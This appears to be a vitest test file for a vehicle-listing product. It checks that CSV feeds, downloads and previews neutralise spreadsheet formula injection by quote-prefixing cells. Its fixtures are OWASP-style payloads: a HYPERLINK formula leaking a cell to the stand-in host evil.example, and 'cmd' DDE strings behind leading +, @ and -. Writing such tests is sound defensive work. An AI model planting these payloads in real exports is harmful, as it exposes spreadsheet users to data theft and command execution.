// CSV formula injection (issue 16). Source: OWASP, "CSV Injection" (owasp.org/www-community/attacks/CSV_Injection):
// a cell beginning with =, +, -, @, tab (0x09) or carriage return (0x0D) is prefixed with a single quote and the
// cell is quoted, so a spreadsheet shows the text instead of running it. Our decisions beside OWASP's list, marked
// as such: leading whitespace before a trigger counts (spreadsheets may trim it first); a number, and text that is
// exactly a decimal number ("-12.50"), stays as it is (a spreadsheet reads it as a number, not a formula; OWASP's
// guidance is about text cells); a cell already beginning with a quote character is text to a spreadsheet and is
// left alone. Every CSV the product writes goes through the same writer: the portal feed, the staff download, the
// preview's sample. The output is read back with csv-parse, an independent parser.
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import request from "supertest";
import { parse as parseCsv } from "csv-parse/sync";
import { startTestApp, type TestApp } from "../support/app.ts";
import { publishReadyVehicle } from "../support/publishing.ts";

let t: TestApp;
let stockNumber: string;

// What the input schemas let through unchanged (they trim, so no leading whitespace here).
const VARIANT = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")'; // OWASP's example shape, quotes and a comma inside
const MODEL = "+cmd|' /C calc'!A0"; // OWASP: a leading +
const COLOUR = "@SUM(1+1)*cmd|' /C calc'!A0"; // OWASP: a leading @
const FEATURES = ["-2+3+cmd|' /C calc'!A0", "Tow bar"]; // OWASP: a leading -; the list is one cell, joined with |
// Written into the stored revision directly: values from before trimming or from an import, which the writer must
// neutralise all the same.
const STORED = {
  title: "   =1+1", // leading spaces before = (our decision: counts)
  vin: "\t=1+1", // OWASP: a leading tab
  bodyType: "\r=1+1", // OWASP: a leading carriage return
  aspiration: '"=1+1"', // begins with a quote character: text already (our decision: left alone)
  driveType: "-12.50", // text that is exactly a number (our decision: stays a number)
  transmission: "-1+2", // a minus that starts a formula (OWASP: neutralised)
  fuelType: "Diesel = cheap", // = inside, not at the start: nothing to do
  powerKw: -5, // a number cell (our decision: stays a number)
};
const HEADER = '=HYPERLINK("https://evil.example","x")';

const COLUMNS = [
  { key: "stockNumber", header: "Stock" },
  { key: "variant", header: "Variant" },
  { key: "model", header: "Model" },
  { key: "colour", header: "Colour" },
  { key: "features", header: "Features" },
  { key: "title", header: "Title" },
  { key: "vin", header: "VIN" },
  { key: "bodyType", header: "Body" },
  { key: "aspiration", header: "Aspiration" },
  { key: "driveType", header: "Drive" },
  { key: "transmission", header: "Gearbox" },
  { key: "fuelType", header: "Fuel" },
  { key: "powerKw", header: "kW" },
  { key: "make", header: HEADER },
];

const EXPECTED = {
  Variant: `'${VARIANT}`,
  Model: `'${MODEL}`,
  Colour: `'${COLOUR}`,
  Features: `'${FEATURES.join("|")}`,
  Title: `'${STORED.title}`,
  VIN: `'${STORED.vin}`,
  Body: `'${STORED.bodyType}`,
  Aspiration: STORED.aspiration,
  Drive: "-12.50",
  Gearbox: "'-1+2",
  Fuel: "Diesel = cheap",
  kW: "-5",
};

beforeAll(async () => {
  t = await startTestApp();
  const v = await publishReadyVehicle(t, { make: "Kessamer", variant: VARIANT, model: MODEL, colour: COLOUR, features: FEATURES });
  const sets = Object.keys(STORED).map((k) => `'$.${k}', ?`).join(", ");
  await t.ctx.database.pool.query(`UPDATE revisions SET snapshot = JSON_SET(snapshot, ${sets}) WHERE slug = ?`, [...Object.values(STORED), v.slug]);
  const [rows] = await t.ctx.database.pool.query("SELECT JSON_VALUE(snapshot, '$.stockNumber') AS s FROM revisions WHERE slug = ?", [v.slug]);
  stockNumber = (rows as Array<{ s: string }>)[0].s;
}, 120_000);
afterAll(() => t.close());

/** Every cell of our vehicle's row, and the raw text, checked against EXPECTED; the hostile header too. */
function expectNeutralised(text: string) {
  const records = parseCsv<Record<string, string>>(text, { columns: true, bom: true });
  expect(Object.keys(records[0])).toContain(`'${HEADER}`);
  const row = records.find((r) => r.Stock === stockNumber)!;
  expect(row).toMatchObject(EXPECTED);
  // The prefixed cells are quoted in the raw text, whatever else they contain (OWASP: quote the cell).
  for (const v of [MODEL, COLOUR, STORED.title]) expect(text).toContain(`"'${v}"`);
  expect(text).toContain(`"'=HYPERLINK(""https://evil.example/?leak=""&A1,""Click"")"`);
}

describe("CSV formula neutralising", () => {
  it("when a portal fetches a CSV feed whose cells and a header begin with =, +, -, @, tab or CR, then each is prefixed with ' and quoted; numbers stay numbers", async () => {
    const m = await t.signIn("marketing");
    const res = await m.post("/api/feeds").send({ name: "Hostile", format: "csv", columns: COLUMNS });
    expect(res.status, JSON.stringify(res.body)).toBe(201);
    const feed = await request(t.app).get(new URL(res.body.url as string).pathname);
    expect(feed.status).toBe(200);
    expectNeutralised(feed.text);
  });

  it("when marketing downloads the CSV or previews it, then the same cells are neutralised there too", async () => {
    const m = await t.signIn("marketing");
    const created = await m.post("/api/feeds").send({ name: "Hostile download", format: "csv", columns: COLUMNS, filter: { makes: ["Kessamer"] } });
    const dl = await m.get(`/api/feeds/${created.body.feed.id}/download`);
    expect(dl.status).toBe(200);
    expectNeutralised(dl.text);
    const preview = await m.post("/api/feeds/preview").send({ format: "csv", columns: COLUMNS, filter: { makes: ["Kessamer"] } });
    expect(preview.status).toBe(200);
    expectNeutralised(preview.body.preview.sample);
  });
});
